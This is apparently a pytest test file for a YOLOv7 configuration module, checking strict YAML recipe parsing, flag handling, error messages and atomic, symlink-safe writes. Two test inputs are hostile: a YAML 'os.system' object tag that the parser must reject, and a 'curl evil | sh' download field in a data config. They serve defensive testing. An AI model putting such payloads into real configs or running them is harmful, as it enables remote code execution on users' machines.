"""Strict YAML, overrides and flags: what is accepted, and what the messages say."""

from __future__ import annotations

import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from yolov7 import config
from yolov7.config import (
    InputError,
    atomic_path,
    atomic_write,
    find_yaml,
    option,
    override,
    parse_arguments,
    read_yaml,
    to_mapping,
)
from yolov7.config.options import DetectOptions, ExportOptions, TestOptions
from yolov7.config.recipe import Recipe, read_recipe
from yolov7.data.catalog import read_data_config
from yolov7.engine.run_config import TrainOptions


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(("name", "lrf", "cls", "obj", "translate", "scale", "mixup"), [
    ("tiny", 0.01, 0.5, 1.0, 0.1, 0.5, 0.05), ("p5", 0.1, 0.3, 0.7, 0.2, 0.9, 0.15),
    ("p6", 0.2, 0.3, 0.7, 0.2, 0.9, 0.15), ("custom", 0.1, 0.3, 0.7, 0.2, 0.5, 0.0),
])
def test_shipped_recipes(name: str, lrf: float, cls: float, obj: float, translate: float, scale: float,
                         mixup: float) -> None:
    recipe = read_recipe(name)
    assert (recipe.optimizer.lrf, recipe.loss.cls, recipe.loss.obj) == (lrf, cls, obj)
    assert (recipe.augment.translate, recipe.augment.scale, recipe.augment.mixup) == (translate, scale, mixup)
    assert recipe.augment.paste_in == mixup
    assert (recipe.optimizer.lr0, recipe.optimizer.momentum, recipe.loss.box) == (0.01, 0.937, 0.05)


def test_flat_recipe_of_the_reference_implementation(tmp_path: Path) -> None:
    text = "lr0: 0.02\nweight_decay: 5e-4\nbox: 0.1\nloss_ota: 0\nmosaic: 0.5\niou_t: 0.2\n"
    path = write(tmp_path / "hyp.yaml", text)
    recipe = read_recipe(str(path))
    assert (recipe.optimizer.lr0, recipe.optimizer.weight_decay, recipe.loss.box) == (0.02, 0.0005, 0.1)
    assert recipe.loss.loss_ota is False
    assert recipe.augment.mosaic == 0.5


@pytest.mark.parametrize(("text", "message"), [
    ("lr1: 0.1\n", "hyp.yaml: unknown key 'lr1'; accepted: optimizer, loss, augment, lr0, "),
    ("loss: {bos: 1}\n", "hyp.yaml, loss: unknown key 'bos'; accepted: box, cls, "),
    ("momentum: 1.5\n", "momentum: found 1.5; accepted: 0 to 1"),
    ("momentum: fast\n", "momentum: found a text ('fast'); accepted: a number"),
    ("momentum: .nan\n", "momentum: found a number (nan); accepted: a number"),
    ("loss_ota: 3\n", "loss_ota: found a whole number (3); accepted: true or false"),
    ("lr0: 1\nlr0: 2\n", "line 2: the key 'lr0' stands twice"),
    ("- 1\n", "holds a list ([1]), expected keys with values"),
    ("a: [\n", "is not valid YAML"),
    ("!!python/object/apply:os.system ['true']\n", "is not valid YAML"),
])
def test_bad_recipes(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(InputError) as error:
        read_recipe(str(write(tmp_path / "hyp.yaml", text)))
    assert message in str(error.value)
    assert "\n" not in str(error.value)


def test_nearest_names() -> None:
    with pytest.raises(InputError, match="did you mean 'yolov7-tiny'"):
        find_yaml("yolov7-tinny", "cfg", "--cfg")
    with pytest.raises(InputError, match=r"--cfg 'gone.yaml': no such file, and none is shipped under that name"):
        find_yaml("gone.yaml", "cfg", "--cfg")
    for name in ("yolov7", "yolov7.yaml", "cfg/paper/yolov7.yaml"):
        assert find_yaml(name, "cfg", "--cfg").name == "yolov7.yaml"
    for name in ("/gone/yolov7.yaml", "cfg/yolov7.yaml", "../yolov7"):
        with pytest.raises(InputError, match=f"--cfg {name!r}: no such file.*did you mean 'yolov7'"):
            find_yaml(name, "cfg", "--cfg")
    assert find_yaml("hyp.scratch.p5.yaml", "data", "--hyp", ("hyp.scratch.", "hyp.")).name == "hyp.scratch.p5.yaml"


def test_override() -> None:
    recipe = override(Recipe(), ["loss.box=0.04", "augment.mosaic=0"])
    assert (recipe.loss.box, recipe.augment.mosaic) == (0.04, 0.0)
    assert Recipe().loss.box == 0.05
    for assignment, message in [
        ("loss.bx=1", "unknown key 'bx'"), ("los.box=1", "unknown section 'los'.*did you mean 'loss'"),
        ("loss=1", "unknown key 'loss'"), ("box", "accepted: section.key=value"), ("loss.box=-1", "at least 0"),
    ]:
        with pytest.raises(InputError, match=message):
            override(Recipe(), [assignment])


@dataclass(frozen=True)
class Section:
    kept: int = 1
    added: dict[str, float] = field(default_factory=dict, metadata={"omit_default": True})
    switch: bool = option(False, "a later switch", omit_default=True)


def test_fields_that_came_later_are_left_out_where_they_have_their_default() -> None:
    assert to_mapping(Section()) == {"kept": 1}
    assert to_mapping(Section(switch=True)) == {"kept": 1, "switch": True}
    assert to_mapping(Section(added={"a": 2.0})) == {"kept": 1, "added": {"a": 2.0}}
    assert to_mapping(Section(), whole=True) == {"kept": 1, "added": {}, "switch": False}
    assert "gains" not in to_mapping(Recipe())["loss"] and to_mapping(Recipe(), whole=True)["loss"]["gains"] == {}
    for section in (Section(), Section(2, {"a": 2.0}, True)):
        assert config.from_mapping(Section, to_mapping(section), "here") == section
    assert override(Section(), ["switch=true"]).switch


def test_round_trip() -> None:
    recipe = read_recipe("p6")
    assert config.from_mapping(Recipe, to_mapping(recipe), "here") == recipe


def test_flags_come_from_the_dataclass() -> None:
    flags = ["--batch-size", "8", "--img-size", "320", "416", "--resume"]
    options = parse_arguments(TrainOptions, flags, "train.py", "")
    assert (options.batch_size, options.img_size, options.resume) == (8, (320, 416), "")
    assert parse_arguments(TrainOptions, [], "train.py", "") == TrainOptions()
    # a flag that is given changes itself only
    assert to_mapping(options) | {"batch_size": None, "img_size": None, "resume": None} == to_mapping(TrainOptions())


@pytest.mark.parametrize(("arguments", "message"), [
    (["--batch-sise", "3"], "unknown flag '--batch-sise'; did you mean '--batch-size'?"),
    (["--epochs", "many"], "argument --epochs: invalid whole-number value: 'many'"),
    (["--epochs", "0"], "epochs: found 0; accepted: at least 1"),
    (["picture.jpg"], "unknown argument 'picture.jpg'"),
    (["--cfg"], "argument --cfg: expected one argument"),
])
def test_bad_flags(arguments: list[str], message: str) -> None:
    with pytest.raises(InputError) as error:
        parse_arguments(TrainOptions, arguments, "train.py", "")
    assert message in str(error.value)


def test_bad_choice() -> None:
    with pytest.raises(InputError, match="--task.*'train', 'val', 'test'"):
        parse_arguments(TestOptions, ["--task", "vl"], "test.py", "")


@pytest.mark.parametrize("options", [TrainOptions, TestOptions, DetectOptions, ExportOptions])
def test_every_flag_has_help(options: type, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as stop:
        parse_arguments(options, ["--help"], "program", "what it does")
    assert stop.value.code == 0
    text = capsys.readouterr().out
    for name, entry in options.__dataclass_fields__.items():
        assert ("--" + name.replace("_", "-") in text) is entry.metadata.get("flag", True)


@pytest.mark.parametrize("command", ["train", "test", "detect", "export"])
def test_help_answers_at_once(command: str) -> None:
    root = Path(__file__).parents[1]
    times = []
    for _ in range(3):  # the best of three: the machine may be busy
        started = time.perf_counter()
        done = subprocess.run([sys.executable, root / f"{command}.py", "--help"], capture_output=True, text=True,
                              check=True, cwd=root)
        times.append(time.perf_counter() - started)
    assert "usage:" in done.stdout
    assert min(times) < 1
    code = "import sys; from yolov7.cli import main; main(['--help']); assert 'torch' not in sys.modules"
    subprocess.run([sys.executable, "-c", code], check=True, capture_output=True, cwd=root)


def test_data_config(tmp_path: Path) -> None:
    text = "train: [a, b]\nval: {images: i, annotations: j.json}\nnc: 2\nnames: [x, y]\ndownload: curl evil | sh\n"
    data = read_data_config(write(tmp_path / "data.yaml", text))
    assert data.train == ("a", "b")
    assert data.val == {"images": "i", "annotations": "j.json"}
    with pytest.raises(InputError, match="unknown key 'nmaes'.*did you mean 'names'"):
        read_data_config(write(tmp_path / "data.yaml", "nmaes: [x]\n"))
    with pytest.raises(InputError, match="nc: found a text \\('two'\\); accepted: a whole number"):
        read_data_config(write(tmp_path / "data.yaml", "nc: two\n"))


def test_missing_and_unreadable_files(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot be read: No such file"):
        read_yaml(tmp_path / "gone.yaml")
    (tmp_path / "binary.yaml").write_bytes(b"\xff\xfe\x00\x81")
    with pytest.raises(InputError, match="is not valid YAML"):
        read_yaml(tmp_path / "binary.yaml")


def test_write_atomically_keeps_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "file.txt"
    atomic_write(path, "old")

    def fail(_: int) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("yolov7.config.files.os.fsync", fail)
    with pytest.raises(OSError, match="disk full"):
        atomic_write(path, "new")
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("folder", [False, True])
@pytest.mark.parametrize("old", [False, True])
def test_a_path_is_taken_only_when_all_went_well(tmp_path: Path, folder: bool, old: bool) -> None:
    path = tmp_path / "x"

    def write(target: Path, text: str) -> None:
        if folder:
            target.mkdir()
        (target / "file" if folder else target).write_text(text)

    def texts() -> list[str]:
        return [file.read_text() for file in sorted(tmp_path.rglob("*")) if file.is_file()]

    if old:
        write(path, "old")
    with pytest.raises(KeyboardInterrupt), atomic_path(path) as temporary:
        write(temporary, "half")
        raise KeyboardInterrupt
    with atomic_path(path):
        pass  # nothing is left there
    assert texts() == ["old"] * old
    with atomic_path(path, ".mp4") as temporary:
        write(temporary, "new")
        assert temporary.parent == tmp_path and temporary.name.startswith(".x.") and temporary.suffix == ".mp4"
    assert texts() == ["new"]
    assert list(tmp_path.iterdir()) == [path]


def test_letters_that_no_file_can_hold_are_written_out(tmp_path: Path) -> None:
    config.atomic_write(tmp_path / "x", "a \ud800 and a \udcff")
    assert (tmp_path / "x").read_text(encoding="utf-8") == "a \\ud800 and a \\udcff"


def test_no_link_is_followed_when_a_file_is_written(tmp_path: Path) -> None:
    """Neither at its name, nor at a temporary one of an earlier write, which is never used again."""
    target, path = tmp_path / "precious", tmp_path / "x"
    target.write_text("content")
    path.symlink_to(target)
    names = set()
    for text in ("new", "newer"):
        with config.atomic_path(path) as temporary:
            names.add(temporary.name)
            temporary.write_text(text)
    config.atomic_write(path, "newest")
    assert len(names) == 2 and target.read_text() == "content"
    assert not path.is_symlink() and path.read_text() == "newest"
